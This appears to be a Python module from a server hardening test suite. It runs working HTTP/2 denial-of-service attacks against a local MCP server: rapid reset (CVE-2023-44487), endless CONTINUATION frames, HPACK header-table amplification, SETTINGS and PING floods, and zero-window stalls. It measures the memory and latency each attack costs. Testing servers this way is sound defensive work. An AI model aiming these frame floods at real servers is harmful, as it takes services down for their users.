"""Attacks in HTTP/2, on granian as somebody runs it who wants that: ours speak HTTP/1.1 alone."""

from __future__ import annotations

import asyncio
import json
import struct
import time
from contextlib import suppress

from .report import GotThrough, Scale, attack
from .victim import Json, Victim, Wire, modern, modern_headers

DATA, HEADERS, RESET, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
MIB = 1 << 20
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def _frame(kind: int, flags: int, stream: int, data: bytes = b"") -> bytes:
    return struct.pack("!I", len(data))[1:] + struct.pack("!BBI", kind, flags, stream) + data


def _line(name: str, value: str, first: int = 0) -> bytes:
    """One header as it is, without the tables; ``first`` 64 puts it into the table of the other side."""
    return bytes((first,)) + _string(name.encode()) + _string(value.encode())


def _string(data: bytes) -> bytes:
    if len(data) < 127:
        return bytes((len(data),)) + data
    rest, size = len(data) - 127, b"\x7f"
    while rest > 127:
        size += bytes((rest & 0x7F | 0x80,))
        rest >>= 7
    return size + bytes((rest,)) + data


def _head(message: Json) -> bytes:
    every = {
        ":method": "POST",
        ":scheme": "http",
        ":path": "/mcp",
        ":authority": "127.0.0.1",
        "accept": "application/json, text/event-stream",
        "content-type": "application/json",
        **{name.lower(): value for name, value in modern_headers(message).items()},
    }
    return b"".join(_line(name, value) for name, value in every.items())


def _call(stream: int, name: str, **arguments: object) -> bytes:
    message = modern("tools/call", {"name": name, "arguments": arguments})
    body = json.dumps(message).encode()
    return _frame(HEADERS, END_HEADERS, stream, _head(message)) + _frame(DATA, END_STREAM, stream, body)


async def _opened(victim: Victim, settings: bytes = b"") -> Wire:
    wire = await victim.connect()
    wire.send(PREFACE + _frame(SETTINGS, 0, 0, settings))
    return wire


async def _speaks(victim: Victim) -> None:
    """An honest call, so that we know that HTTP/2 is spoken here."""
    wire = await _opened(victim)
    wire.send(_call(1, "echo", text="hello"))
    async with asyncio.timeout(10):
        await wire.reader.readuntil(b'"text":"hello"')
    wire.drop()


async def _beside(victim: Victim, wire: Wire, pieces: list[bytes], most: int, what: str) -> str:
    """Send it all, unless hung up on; what others feel of it and what it costs."""
    before, highest, slowest, sent = victim.memory(), 0, 0.0, 0
    for piece in pieces:
        if wire.writer.transport.is_closing():
            break
        wire.send(piece)
        sent += len(piece)
        stuck = True
        with suppress(ConnectionError, TimeoutError):
            async with asyncio.timeout(2):
                await wire.writer.drain()
                stuck = False
        begun = time.monotonic()
        await victim.ask("echo", text="still there?")
        slowest = max(slowest, time.monotonic() - begun)
        highest = max(highest, victim.memory() - before)
        if stuck:
            break  # it reads no more, or has hung up
    cut = await wire.closed(0.2)
    wire.drop()
    word = "hung up on" if cut else "not hung up on"
    detail = f"{sent >> 10} KiB of {what}, {word}: {highest >> 20} MiB, others waited {slowest * 1000:.0f} ms"
    if slowest > 1.0 or highest > most * MIB:
        raise GotThrough(detail)
    return detail


@attack("http2", seconds=90)
async def rapid_resets(victim: Victim, scale: Scale) -> str:
    """Streams are begun and reset at once, again and again (CVE-2023-44487)."""
    await _speaks(victim)
    wire, streams = await _opened(victim), iter(range(1, 1 << 30, 2))
    code = struct.pack("!I", 8)

    def begun_and_reset() -> bytes:
        stream = next(streams)
        return _call(stream, "nap", seconds=600) + _frame(RESET, 0, stream, code)

    pieces = [b"".join(begun_and_reset() for _ in range(100)) for _ in range(scale.of(20, 200))]
    told = await _beside(victim, wire, pieces, 64, "resets")

    async def quiet() -> bool:
        return await victim.ask("at_work") == 0

    if not await victim.settled(quiet, 30):
        raise GotThrough(f"{await victim.ask('at_work')} calls run on; {told}")
    return f"{told}; no call runs on"


@attack("http2", seconds=90)
async def resets_of_calls_that_run(victim: Victim, scale: Scale) -> str:
    """Calls are let begin before their streams are reset, and others follow: all that a connection may have at once."""
    wire, streams, rounds = await _opened(victim), iter(range(1, 1 << 30, 2)), scale.of(3, 10)
    for _ in range(rounds):
        mine = [next(streams) for _ in range(100)]
        wire.send(b"".join(_call(stream, "nap", seconds=600) for stream in mine))

        async def begun() -> bool:
            return await victim.ask("at_work") >= 100

        if not await victim.settled(begun, 10):
            raise GotThrough("honest calls do not begin")
        wire.send(b"".join(_frame(RESET, 0, stream, struct.pack("!I", 8)) for stream in mine))

    async def quiet() -> bool:
        return await victim.ask("at_work") == 0

    if not await victim.settled(quiet, 30):
        raise GotThrough(f"{await victim.ask('at_work')} of {rounds * 100} calls run on after 30 s")
    return f"{rounds * 100} calls ended with their streams"


@attack("http2")
async def continuations_without_end(victim: Victim, scale: Scale) -> str:
    """A head goes on in one CONTINUATION frame after the other (CVE-2024-27316 and its kin)."""
    wire, message = await _opened(victim), modern("tools/list")
    piece = _frame(CONTINUATION, 0, 1, b"".join(_line(f"x-{n}", "y" * 1000) for n in range(15)))
    pieces = [_frame(HEADERS, 0, 1, _head(message)), *[piece * 16] * scale.of(50, 400)]
    return await _beside(victim, wire, pieces, 32, "continuations")


@attack("http2")
async def packed_heads(victim: Victim, scale: Scale) -> str:
    """One header is put into the table, and then named thousands of times in each small head."""
    wire, message = await _opened(victim), modern("tools/list")
    pieces, learnt = list[bytes](), _line("x-bomb", "z" * 3900, first=64)
    for number in range(scale.of(20, 200)):
        named = _head(message) + (learnt if not number else b"") + b"\xbe" * 12_000
        pieces.append(_frame(HEADERS, END_HEADERS | END_STREAM, 2 * number + 1, named))
    return await _beside(victim, wire, pieces, 64, "packed heads")


@attack("http2")
async def settings_and_pings_unread(victim: Victim, scale: Scale) -> str:
    """Settings and pings without end, whose answers are never read."""
    told: list[str] = []
    for what, one in {"settings": _frame(SETTINGS, 0, 0), "pings": _frame(PING, 0, 0, b"12345678")}.items():
        wire = await _opened(victim)
        wire.writer.transport.pause_reading()  # type: ignore[attr-defined]
        told.append(await _beside(victim, wire, [one * 4000] * scale.of(30, 300), 48, what))
    return "; ".join(told)


@attack("http2", seconds=90)
async def windows_of_nothing(victim: Victim, scale: Scale) -> str:
    """Large answers are asked for on many streams, and no window is ever opened for them."""
    nothing = struct.pack("!HI", 4, 0)
    before, highest, wires = victim.memory(), 0, list[Wire]()
    for _ in range(scale.of(2, 8)):
        wire = await _opened(victim, nothing)
        wires.append(wire)
        wire.send(b"".join(_call(2 * n + 1, "big", size=2 * MIB) for n in range(50)))
        for _ in range(5):
            await victim.ask("echo", text="still there?")
            highest = max(highest, victim.memory() - before)
            await asyncio.sleep(0.1)
    for wire in wires:
        wire.drop()
    detail = f"{len(wires) * 50} answers of 2 MiB cost {highest >> 20} MiB"
    if highest > 400 * MIB:
        raise GotThrough(detail)
    return detail
